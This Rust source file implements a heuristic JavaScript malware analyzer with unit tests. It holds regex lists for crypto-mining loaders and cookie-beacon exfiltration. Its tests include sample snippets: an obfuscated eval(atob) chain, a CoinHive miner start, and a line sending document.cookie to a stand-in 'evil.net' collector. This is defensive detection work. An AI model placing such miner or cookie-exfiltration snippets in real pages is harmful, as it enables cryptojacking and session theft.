// Malware analyzer — JavaScript and inline-HTML script heuristics.
//
// Scores dynamic-code-execution patterns (eval chains, Function
// constructors), encoding/obfuscation volume, crypto-mining loaders, and
// beacon-style exfiltration. Script targets score the raw source; Page
// targets score the concatenated inline <script> blocks.

use std::collections::HashMap;

use anyhow::Result;
use async_trait::async_trait;
use regex_lite::Regex;
use tracing::debug;

use super::features::{extract_js_features, inline_scripts, JsFeatures};
use super::{AnalysisTarget, Analyzer};
use crate::report::{Finding, ThreatLevel, ThreatType};

/// Crypto-mining loader patterns, matched against script source.
const MINING_PATTERNS: &[&str] = &[
    r"(?i)coinhive\.min\.js",
    r"(?i)CoinHive\.Anonymous",
    r"(?i)coinimp\.com/scripts",
    r"(?i)crypto-?loot\.com",
    r"(?i)coin-?hive\.com",
    r"(?i)jsecoin\.com",
    r"(?i)miner\.start\s*\(",
    r"(?i)CryptoNoter",
    r"(?i)stratum\+tcp://",
];

/// Beacon-style data exfiltration patterns.
const EXFILTRATION_PATTERNS: &[&str] = &[
    r"(?i)document\.cookie",
    r"(?i)localStorage\.getItem",
    r"(?i)navigator\.sendBeacon\s*\(",
    r"(?i)new\s+Image\s*\(\s*\)\s*\.src\s*=",
];

/// JavaScript malware detector.
pub struct MalwareAnalyzer {
    threshold: f64,
    mining: Vec<Regex>,
    exfiltration: Vec<Regex>,
}

impl MalwareAnalyzer {
    pub fn new(threshold: f64) -> Self {
        Self {
            threshold,
            mining: MINING_PATTERNS
                .iter()
                .map(|p| Regex::new(p).expect("static regex"))
                .collect(),
            exfiltration: EXFILTRATION_PATTERNS
                .iter()
                .map(|p| Regex::new(p).expect("static regex"))
                .collect(),
        }
    }

    fn score_script(&self, code: &str) -> (f64, Vec<String>, JsFeatures) {
        let features = extract_js_features(code);

        let mut score = 0.0;
        let mut indicators = Vec::new();

        if features.eval_count > 0 {
            score += (features.eval_count as f64 * 0.10).min(0.25);
            indicators.push(format!("eval() used {} time(s)", features.eval_count));
        }
        if features.function_constructor_count > 0 {
            score += 0.15;
            indicators.push("Function constructor (dynamic code execution)".to_string());
        }
        if features.document_write_count > 0 {
            score += 0.10;
            indicators.push(format!(
                "document.write() used {} time(s)",
                features.document_write_count
            ));
        }
        if features.atob_count > 0 && features.eval_count > 0 {
            // eval(atob(...)) chains are a classic dropper shape
            score += 0.20;
            indicators.push("Base64-decode feeding dynamic execution".to_string());
        } else if features.atob_count > 2 {
            score += 0.10;
            indicators.push(format!("{} base64 conversions", features.atob_count));
        }
        if features.obfuscation_score > 0.5 {
            score += 0.25;
            indicators.push(format!(
                "Heavy obfuscation (score {:.2})",
                features.obfuscation_score
            ));
        } else if features.obfuscation_score > 0.3 {
            score += 0.12;
            indicators.push(format!(
                "Possible obfuscation (score {:.2})",
                features.obfuscation_score
            ));
        }
        if features.hex_identifier_count > 5 {
            score += 0.10;
            indicators.push(format!(
                "{} hex-style identifiers",
                features.hex_identifier_count
            ));
        }

        let mining_hit = self.mining.iter().any(|p| p.is_match(code));
        if mining_hit {
            score += 0.50;
            indicators.push("Crypto-mining loader pattern".to_string());
        }

        let exfil_hits = self
            .exfiltration
            .iter()
            .filter(|p| p.is_match(code))
            .count();
        if exfil_hits >= 2 {
            score += 0.25;
            indicators.push("Cookie/storage access combined with beaconing".to_string());
        }

        (score.clamp(0.0, 1.0), indicators, features)
    }

    fn finding_from(
        &self,
        score: f64,
        description: String,
        indicators: Vec<String>,
        features: &JsFeatures,
        method: &str,
    ) -> Option<Finding> {
        if score < self.threshold {
            return None;
        }
        let threat_level = ThreatLevel::from_score(score);
        if threat_level == ThreatLevel::Safe {
            return None;
        }

        let mut metadata = HashMap::new();
        metadata.insert("analysis_method".into(), method.into());
        metadata.insert("eval_count".into(), features.eval_count.into());
        metadata.insert(
            "obfuscation_score".into(),
            features.obfuscation_score.into(),
        );
        metadata.insert(
            "variable_name_entropy".into(),
            features.variable_name_entropy.into(),
        );

        Some(Finding {
            threat_type: ThreatType::Malware,
            threat_level,
            confidence: score,
            description,
            indicators,
            metadata,
        })
    }
}

#[async_trait]
impl Analyzer for MalwareAnalyzer {
    fn name(&self) -> &'static str {
        "malware"
    }

    async fn analyze(&self, target: &AnalysisTarget<'_>) -> Result<Option<Finding>> {
        match target {
            AnalysisTarget::Script { code, .. } => {
                let (score, indicators, features) = self.score_script(code);
                debug!(score, bytes = code.len(), "malware script heuristic");
                Ok(self.finding_from(
                    score,
                    format!("Malicious script patterns (score {score:.2})"),
                    indicators,
                    &features,
                    "script_heuristic",
                ))
            }
            AnalysisTarget::Page { url, html } => {
                let scripts = inline_scripts(html);
                if scripts.trim().is_empty() {
                    return Ok(None);
                }
                let (score, indicators, features) = self.score_script(&scripts);
                debug!(url = %url, score, "malware inline-script heuristic");
                Ok(self.finding_from(
                    score,
                    format!("Malicious inline script patterns (score {score:.2})"),
                    indicators,
                    &features,
                    "html_heuristic",
                ))
            }
            AnalysisTarget::Url(_) => Ok(None),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn analyzer() -> MalwareAnalyzer {
        MalwareAnalyzer::new(0.3)
    }

    #[tokio::test]
    async fn eval_atob_chain_is_flagged() {
        let target = AnalysisTarget::Script {
            code: r#"eval(atob("YWxlcnQoMSk="));"#,
            source_url: "",
        };
        let finding = analyzer().analyze(&target).await.unwrap().unwrap();
        assert_eq!(finding.threat_type, ThreatType::Malware);
        assert!(finding
            .indicators
            .iter()
            .any(|i| i.contains("Base64-decode")));
    }

    #[tokio::test]
    async fn clean_dom_code_abstains() {
        let code = r#"
            document.addEventListener('DOMContentLoaded', function() {
                const button = document.getElementById('submit');
                button.addEventListener('click', handleSubmit);
            });
        "#;
        let target = AnalysisTarget::Script {
            code,
            source_url: "",
        };
        assert!(analyzer().analyze(&target).await.unwrap().is_none());
    }

    #[tokio::test]
    async fn mining_loader_is_high_severity() {
        let target = AnalysisTarget::Script {
            code: "var miner = new CoinHive.Anonymous('sitekey'); miner.start();",
            source_url: "",
        };
        let finding = analyzer().analyze(&target).await.unwrap().unwrap();
        assert!(finding.confidence >= 0.5);
        assert!(finding
            .indicators
            .iter()
            .any(|i| i.contains("Crypto-mining")));
    }

    #[tokio::test]
    async fn page_with_clean_inline_scripts_abstains() {
        let html = "<html><script>console.log('hello');</script></html>";
        let target = AnalysisTarget::Page {
            url: "https://example.com",
            html,
        };
        assert!(analyzer().analyze(&target).await.unwrap().is_none());
    }

    #[tokio::test]
    async fn page_with_obfuscated_inline_script_is_flagged() {
        let html = concat!(
            "<html><script>",
            r"var _0x4e23=['\x48\x65\x6c\x6c\x6f','\x77\x6f\x72\x6c\x64','\x61\x62\x63'];",
            r"(function(_0x2d8f05){eval(atob(_0x2d8f05[0]));})(_0x4e23);",
            "</script></html>"
        );
        let target = AnalysisTarget::Page {
            url: "https://example.com",
            html,
        };
        let finding = analyzer().analyze(&target).await.unwrap().unwrap();
        assert_eq!(finding.threat_type, ThreatType::Malware);
    }

    #[tokio::test]
    async fn url_target_abstains() {
        let target = AnalysisTarget::Url("https://example.com");
        assert!(analyzer().analyze(&target).await.unwrap().is_none());
    }

    #[tokio::test]
    async fn exfiltration_combo_raises_score() {
        let code = r#"
            var data = document.cookie;
            navigator.sendBeacon('https://collector.evil.net', data);
        "#;
        let (score, indicators, _) = analyzer().score_script(code);
        assert!(score >= 0.25, "score {score}");
        assert!(indicators.iter().any(|i| i.contains("beaconing")));
    }
}
